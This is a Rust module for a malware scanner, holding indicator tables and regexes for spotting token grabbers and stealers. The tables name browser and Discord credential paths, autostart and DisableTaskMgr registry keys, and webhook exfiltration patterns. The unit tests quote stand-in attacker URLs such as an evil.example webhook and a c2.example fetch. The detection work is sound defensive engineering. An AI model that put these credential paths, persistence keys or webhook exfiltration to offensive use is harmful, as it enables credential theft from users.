//! Indicator tables and compiled patterns for the byte-level scanner.
//!
//! The string tables mirror what commodity grabber kits actually ship:
//! webhook constant names, harvesting function names, persistence registry
//! keys and credential store paths. Matching is deliberately substring-based
//! and case-sensitive where the kits are, so the tables stay faithful to the
//! samples they were lifted from.
//!
//! Regular expressions are compiled once per process through
//! [`PatternSet::global`] and shared by reference across all pipeline runs.

use std::sync::OnceLock;

use regex::Regex;

/// Constant names grabber kits use for their exfiltration endpoint.
pub const SUSPICIOUS_CONSTANTS: &[&str] =
    &["WEBHOOK_URL", "webhook", "discord.com/api/webhooks"];

/// Function name fragments associated with credential and token harvesting.
pub const SUSPICIOUS_FUNCTIONS: &[&str] = &[
    "injection",
    "Inject",
    "get_passwords",
    "get_system_info",
    "grabber",
    "grabTokens",
];

/// Interpreter keywords that enable dynamic code execution or process
/// spawning. Reported once per artifact as a single aggregated detection.
pub const SUSPICIOUS_KEYWORDS: &[&str] = &[
    "eval",
    "exec",
    "subprocess",
    "os.system",
    "import socket",
    "import requests",
];

/// Vocabulary of stealer families; several together indicate harvesting
/// intent.
pub const STEALER_MARKERS: &[&str] = &["grabber", "stealer", "token", "password"];

/// Autostart registry keys commonly used for persistence.
pub const SUSPICIOUS_REGISTRY_KEYS: &[&str] = &[
    r"HKEY_LOCAL_MACHINE\Software\Microsoft\Windows\CurrentVersion\Run",
    r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run",
];

/// Registry keys with no benign use in dropped programs, such as disabling
/// the task manager.
pub const MALICIOUS_REGISTRY_KEYS: &[&str] = &[
    r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Policies\System\DisableTaskMgr",
    r"HKEY_LOCAL_MACHINE\Software\Microsoft\Windows\CurrentVersion\Run\",
];

/// Browser and messenger credential store locations, with the product name
/// used in reports.
pub const BROWSER_PATHS: &[(&str, &str)] = &[
    ("Discord", r"AppData\Roaming\discord"),
    ("Chrome", r"AppData\Local\Google\Chrome\User Data\Default"),
    ("Firefox", r"AppData\Roaming\Mozilla\Firefox\Profiles"),
];

/// Profile directory fragments referenced by harvesting code.
pub const SUSPICIOUS_DIRECTORIES: &[&str] = &[
    r"\Google\Chrome\User Data",
    r"\Discord",
    r"\Mozilla\Firefox\Profiles",
];

/// Entry name fragments that flag a bundled file by name alone.
pub const SUSPICIOUS_BUNDLE_NAMES: &[&str] = &["inject", "grabber", "steal"];

/// Call-shaped markers that feed the obfuscation likelihood heuristic.
pub const OBFUSCATION_CALL_MARKERS: &[&str] = &["eval(", "exec(", "base64.b64decode("];

/// Path fragment that distinguishes webhook endpoints from ordinary URLs.
pub const WEBHOOK_PATH_MARKER: &str = "/api/webhooks";

/// The compiled regular expressions behind the scanner.
///
/// Compiled once per process via [`PatternSet::global`]; pipeline runs share
/// the instance by reference.
pub struct PatternSet {
    /// Webhook endpoints in any of the service's host spellings, scheme
    /// optional
    pub(crate) webhook: Regex,
    /// Assignment form `webhook_url = "<endpoint>"`, capturing the endpoint
    pub(crate) webhook_assignment: Regex,
    /// Plain URLs
    pub(crate) url: Regex,
    /// Dotted-quad addresses
    pub(crate) ipv4: Regex,
    /// Long alphanumeric runs that suggest encoded payloads
    pub(crate) long_alnum_run: Regex,
    /// Textual hex escapes (`\xNN`) that suggest packed string tables
    pub(crate) hex_escape: Regex,
}

impl PatternSet {
    #[allow(clippy::expect_used)] // Static patterns are hardcoded and valid
    fn compile() -> PatternSet {
        PatternSet {
            webhook: Regex::new(
                r"(?:https?://)?(?:(?:ptb|canary)\.)?discord(?:app)?\.com/api/webhooks/\d+/[A-Za-z0-9_-]+",
            )
            .expect("valid regex"),
            webhook_assignment: Regex::new(
                r#"webhook_url\s*=\s*['"](https?://[^'"\s]*/api/webhooks/[^'"\s]+)['"]"#,
            )
            .expect("valid regex"),
            url: Regex::new(r#"https?://[^\s'"]+"#).expect("valid regex"),
            ipv4: Regex::new(r"\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b").expect("valid regex"),
            long_alnum_run: Regex::new(r"[a-zA-Z0-9]{20,}").expect("valid regex"),
            hex_escape: Regex::new(r"\\x[0-9a-fA-F]{2}").expect("valid regex"),
        }
    }

    /// The process-wide pattern set.
    #[must_use]
    pub fn global() -> &'static PatternSet {
        static PATTERNS: OnceLock<PatternSet> = OnceLock::new();
        PATTERNS.get_or_init(PatternSet::compile)
    }

    /// Find webhook endpoints in `text`, in order of first appearance,
    /// deduplicated.
    ///
    /// Matches both literal endpoints (with or without scheme, in any host
    /// spelling) and the `webhook_url = "..."` assignment form.
    #[must_use]
    pub fn find_webhooks(&self, text: &str) -> Vec<String> {
        let mut found: Vec<String> = Vec::new();

        for matched in self.webhook.find_iter(text) {
            push_unique(&mut found, matched.as_str().to_string());
        }
        for captures in self.webhook_assignment.captures_iter(text) {
            if let Some(url) = captures.get(1) {
                push_unique(&mut found, url.as_str().to_string());
            }
        }

        found
    }
}

/// Append preserving first-seen order; scans are small enough that linear
/// dedup beats hashing.
pub(crate) fn push_unique(items: &mut Vec<String>, candidate: String) {
    if !items.contains(&candidate) {
        items.push(candidate);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn webhook_spellings_match() {
        let patterns = PatternSet::global();

        for text in [
            "https://discord.com/api/webhooks/123456789/AbCdEf-gh_12",
            "https://discordapp.com/api/webhooks/1/t",
            "https://ptb.discord.com/api/webhooks/42/xyz",
            "https://canary.discord.com/api/webhooks/42/xyz",
            "discord.com/api/webhooks/9/schemeless",
        ] {
            assert_eq!(patterns.find_webhooks(text).len(), 1, "missed: {text}");
        }
    }

    #[test]
    fn webhook_assignment_form_captures_endpoint() {
        let patterns = PatternSet::global();
        let text = r#"webhook_url = "https://evil.example/api/webhooks/555/secret""#;

        let found = patterns.find_webhooks(text);
        assert_eq!(
            found,
            vec!["https://evil.example/api/webhooks/555/secret".to_string()]
        );
    }

    #[test]
    fn webhooks_dedup_in_appearance_order() {
        let patterns = PatternSet::global();
        let text = "first https://discord.com/api/webhooks/1/a then \
                    https://discord.com/api/webhooks/2/b then again \
                    https://discord.com/api/webhooks/1/a";

        let found = patterns.find_webhooks(text);
        assert_eq!(
            found,
            vec![
                "https://discord.com/api/webhooks/1/a".to_string(),
                "https://discord.com/api/webhooks/2/b".to_string(),
            ]
        );
    }

    #[test]
    fn url_pattern_stops_at_quotes_and_whitespace() {
        let patterns = PatternSet::global();
        let matches: Vec<_> = patterns
            .url
            .find_iter(r#"fetch("http://c2.example/stage") and http://second.example/x rest"#)
            .map(|m| m.as_str())
            .collect();

        assert_eq!(
            matches,
            vec!["http://c2.example/stage", "http://second.example/x"]
        );
    }

    #[test]
    fn ipv4_pattern_respects_boundaries() {
        let patterns = PatternSet::global();

        assert!(patterns.ipv4.is_match("connect to 192.168.1.10 now"));
        assert!(!patterns.ipv4.is_match("version 1.2.3 only"));
    }

    #[test]
    fn long_run_and_hex_escape_patterns() {
        let patterns = PatternSet::global();

        assert!(patterns.long_alnum_run.is_match(&"A".repeat(20)));
        assert!(!patterns.long_alnum_run.is_match(&"A".repeat(19)));
        assert!(patterns.hex_escape.is_match(r"payload = '\x41\x42'"));
        assert!(!patterns.hex_escape.is_match("no escapes here"));
    }

    #[test]
    fn global_is_shared() {
        let a = PatternSet::global() as *const PatternSet;
        let b = PatternSet::global() as *const PatternSet;
        assert_eq!(a, b);
    }
}
